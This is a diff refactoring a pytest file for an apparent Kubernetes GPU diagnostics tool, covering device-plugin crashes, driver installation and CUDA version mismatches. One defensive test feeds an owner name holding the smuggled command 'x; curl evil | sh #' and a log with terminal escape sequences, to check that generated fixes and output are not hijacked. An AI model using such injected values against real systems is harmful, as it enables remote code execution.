@@ -16,21 +16,18 @@ from tests.fakes.host import Host
 
 NOW = 1_800_000_000.0
 RECENT, EARLIER = "2027-01-15T07:58:00Z", "2027-01-10T00:00:00Z"
+SET: dict[str, Any] = {"f:metadata": {"f:labels": {"f:nvidia.com/gpu.deploy.driver": {}}}}
 NODE: dict[str, Any] = {
     "metadata": {
         "name": "gpu-node",
         "creationTimestamp": EARLIER,
         "labels": {"nvidia.com/gpu.present": "true", "nvidia.com/gpu.deploy.driver": "pre-installed"},
-        "managedFields": [
-            {
-                "manager": "gpu-operator",
-                "time": EARLIER,
-                "fieldsV1": {"f:metadata": {"f:labels": {"f:nvidia.com/gpu.deploy.driver": {}}}},
-            }
-        ],
+        "managedFields": [{"manager": "gpu-operator", "time": EARLIER, "fieldsV1": SET}],
     },
     "status": {"allocatable": {"nvidia.com/gpu": "2"}},
 }
+STRATEGY = {"name": "DEVICE_LIST_STRATEGY", "value": "envvar"}
+RUNNING = {"phase": "Running", "containerStatuses": [{"state": {"running": {"startedAt": EARLIER}}}]}
 PLUGIN: dict[str, Any] = {
     "metadata": {
         "namespace": "kube-system",
@@ -40,17 +37,11 @@ PLUGIN: dict[str, Any] = {
     "spec": {
         "nodeName": "gpu-node",
         "nodeSelector": {"nvidia.com/gpu.present": "true"},
-        "containers": [
-            {
-                "image": "nvcr.io/nvidia/k8s-device-plugin:v0.19.0",
-                "env": [{"name": "DEVICE_LIST_STRATEGY", "value": "envvar"}],
-            }
-        ],
+        "containers": [{"image": "nvcr.io/nvidia/k8s-device-plugin:v0.19.0", "env": [STRATEGY]}],
         "initContainers": [{"name": "toolkit-validation"}],
     },
     "status": {
-        "phase": "Running",
-        "containerStatuses": [{"state": {"running": {"startedAt": EARLIER}}}],
+        **RUNNING,
         "initContainerStatuses": [{"name": "toolkit-validation", "state": {"terminated": {"reason": "Completed"}}}],
     },
 }
@@ -61,14 +52,10 @@ POD: dict[str, Any] = {
         "runtimeClassName": "nvidia",
         "containers": [{"image": "cuda", "resources": {"limits": {"nvidia.com/gpu": "1"}}}],
     },
-    "status": {"phase": "Running", "containerStatuses": [{"state": {"running": {"startedAt": EARLIER}}}]},
+    "status": RUNNING,
 }
-CRASHED = [
-    {
-        "state": {"waiting": {"reason": "CrashLoopBackOff"}},
-        "lastState": {"terminated": {"reason": "Error", "exitCode": 1}},
-    }
-]
+FAILED = {"terminated": {"reason": "Error", "exitCode": 1}}
+CRASHED = [{"state": {"waiting": {"reason": "CrashLoopBackOff"}}, "lastState": FAILED}]
 
 
 def changed(item: dict[str, Any], *path: str, to: object) -> dict[str, Any]:
@@ -84,6 +71,9 @@ def changed(item: dict[str, Any], *path: str, to: object) -> dict[str, Any]:
     return result
 
 
+CRASHING = changed(PLUGIN, "status", "containerStatuses", to=CRASHED)
+
+
 def cluster(*pods: dict[str, Any], node: dict[str, Any] = NODE, **others: object) -> Cluster:
     return replace(Cluster(nodes=(node,), pods=pods or (PLUGIN, POD), now=NOW), **others)
 
@@ -94,20 +84,15 @@ def only(found: Cluster) -> Finding:
 
 
 def event(message: str, name: str = "nfd-worker", time: str = RECENT) -> dict[str, Any]:
-    kind = "DaemonSet"
-    return {
-        "message": message,
-        "lastTimestamp": time,
-        "involvedObject": {"kind": kind, "namespace": "gpu-operator", "name": name},
-    }
+    involved = {"kind": "DaemonSet", "namespace": "gpu-operator", "name": name}
+    return {"message": message, "lastTimestamp": time, "involvedObject": involved}
 
 
 def test_a_sound_cluster_has_no_finding() -> None:
     assert findings(cluster()) == ()
     assert findings(Cluster()) == ()
-    assert (
-        findings(Cluster(nodes=({},), pods=({}, {"spec": None, "status": None}), daemon_sets=({},), events=({},))) == ()
-    )
+    hollow = {"spec": None, "status": None}
+    assert findings(Cluster(nodes=({},), pods=({}, hollow), daemon_sets=({},), events=({},))) == ()
 
 
 @pytest.mark.parametrize(
@@ -120,8 +105,7 @@ def test_a_sound_cluster_has_no_finding() -> None:
     ],
 )
 def test_the_plugin_crashes(log: str, cause: str) -> None:
-    plugin = changed(PLUGIN, "status", "containerStatuses", to=CRASHED)
-    finding = only(cluster(plugin, POD, logs={"kube-system/nvidia-device-plugin-x": f"starting\n{log}\n"}))
+    finding = only(cluster(CRASHING, POD, logs={"kube-system/nvidia-device-plugin-x": f"starting\n{log}\n"}))
     assert cause in finding.cause
     assert "kube-system/nvidia-device-plugin-x" in finding.evidence
     assert finding.fix
@@ -130,8 +114,7 @@ def test_the_plugin_crashes(log: str, cause: str) -> None:
 def test_attack_what_a_pod_says_controls_neither_the_terminal_nor_a_command() -> None:
     """Any pod may write this as its log or last message; whoever makes a pod may call its owner anything."""
     owner = [{"kind": "DaemonSet", "name": "x; curl evil | sh #"}]
-    plugin = changed(PLUGIN, "status", "containerStatuses", to=CRASHED)
-    plugin = changed(plugin, "metadata", "ownerReferences", to=owner)
+    plugin = changed(CRASHING, "metadata", "ownerReferences", to=owner)
     log = "invalid strategy: \x1b[2J\x1b]0;evil\x07"
     finding = only(cluster(plugin, logs={"kube-system/nvidia-device-plugin-x": log}))
     assert "set env 'daemonset/x; curl evil | sh #' DEVICE_LIST_STRATEGY" in finding.fix[0]
@@ -141,11 +124,9 @@ def test_attack_what_a_pod_says_controls_neither_the_terminal_nor_a_command() ->
 
 
 def test_a_wrong_strategy_is_corrected_where_it_is_set() -> None:
-    plugin = changed(PLUGIN, "status", "containerStatuses", to=CRASHED)
-    finding = only(cluster(plugin, logs={"kube-system/nvidia-device-plugin-x": "invalid strategy: envvars"}))
-    assert finding.fix[0].startswith(
-        "kubectl -n kube-system set env daemonset/nvidia-device-plugin DEVICE_LIST_STRATEGY=envvar"
-    )
+    finding = only(cluster(CRASHING, logs={"kube-system/nvidia-device-plugin-x": "invalid strategy: envvars"}))
+    where = "kubectl -n kube-system set env daemonset/nvidia-device-plugin"
+    assert finding.fix[0].startswith(f"{where} DEVICE_LIST_STRATEGY=envvar")
     waiting: list[dict[str, Any]] = [{"name": "toolkit-validation", "state": {"running": {"startedAt": EARLIER}}}]
     plugin = changed(PLUGIN, "status", "initContainerStatuses", to=waiting)
     assert "machines.NAME.validation_markers = true" in only(cluster(plugin, POD)).fix[0]
@@ -154,12 +135,11 @@ def test_a_wrong_strategy_is_corrected_where_it_is_set() -> None:
 
 
 def test_the_operator_installs_a_driver() -> None:
-    node = changed(
-        NODE, "metadata", "labels", to={"nvidia.com/gpu.present": "true", "nvidia.com/gpu.deploy.driver": "true"}
-    )
+    selected = {"nvidia.com/gpu.deploy.driver": "true"}
+    node = changed(NODE, "metadata", "labels", to={"nvidia.com/gpu.present": "true", **selected})
     daemon_set = {
         "metadata": {"namespace": "gpu-operator", "name": "nvidia-driver-daemonset"},
-        "spec": {"template": {"spec": {"nodeSelector": {"nvidia.com/gpu.deploy.driver": "true"}}}},
+        "spec": {"template": {"spec": {"nodeSelector": selected}}},
         "status": {"desiredNumberScheduled": 1},
     }
     (fix,) = only(cluster(node=node, daemon_sets=(daemon_set,))).fix
@@ -199,10 +179,8 @@ def test_a_resource_without_a_runtime_class() -> None:
 )
 def test_cuda_that_is_too_new(message: str) -> None:
     pod = changed(POD, "status", "containerStatuses", to=CRASHED)
-    assert (
-        only(cluster(PLUGIN, pod, logs={"default/train": message})).cause
-        == "a pod's CUDA is newer than the driver supports"
-    )
+    finding = only(cluster(PLUGIN, pod, logs={"default/train": message}))
+    assert finding.cause == "a pod's CUDA is newer than the driver supports"
 
 
 @pytest.mark.parametrize(
@@ -251,12 +229,10 @@ def test_what_kubectl_reads(api: Host) -> None:
 
 def test_another_nodes_faults_are_not_reported(api: Host) -> None:
     """The device plugin's DaemonSet has pods on all nodes; only some may have the handler."""
-    failing = changed(changed(PLUGIN, "status", "containerStatuses", to=CRASHED), "spec", "nodeName", to="other")
+    failing = changed(CRASHING, "spec", "nodeName", to="other")
     failing = changed(failing, "metadata", "name", to="nvidia-device-plugin-y")
     kubectl(api, "pods", "--all-namespaces", "--field-selector=status.phase=Pending", items=[failing])
-    no_handler = event(
-        'Failed to create pod sandbox: no runtime for "nvidia" is configured', time=datetime.now(UTC).isoformat()
-    )
+    no_handler = event('no runtime for "nvidia" is configured', time=datetime.now(UTC).isoformat())
     for host, causes in (("other", 0), ("gpu-node", 1), (None, 1)):
         seen = changed(no_handler, "source", to={"component": "kubelet", "host": host})
         kubectl(api, "events", "--all-namespaces", "--field-selector=type=Warning", items=[seen])
@@ -264,8 +240,7 @@ def test_another_nodes_faults_are_not_reported(api: Host) -> None:
 
 
 def test_logs_are_read_of_pods_that_fail(api: Host) -> None:
-    plugin = changed(PLUGIN, "status", "containerStatuses", to=CRASHED)
-    kubectl(api, "pods", "--all-namespaces", "--field-selector=spec.nodeName=gpu-node", items=[plugin])
+    kubectl(api, "pods", "--all-namespaces", "--field-selector=spec.nodeName=gpu-node", items=[CRASHING])
     log = ("logs", "--namespace=kube-system", "nvidia-device-plugin-x", "--all-containers", "--previous")
     missing = 'previous terminated container "init" in pod "nvidia-device-plugin-x" not found'
     # As kubectl 1.36 prints it. Without --ignore-errors, it ends with 1 at the init container, before the other one.
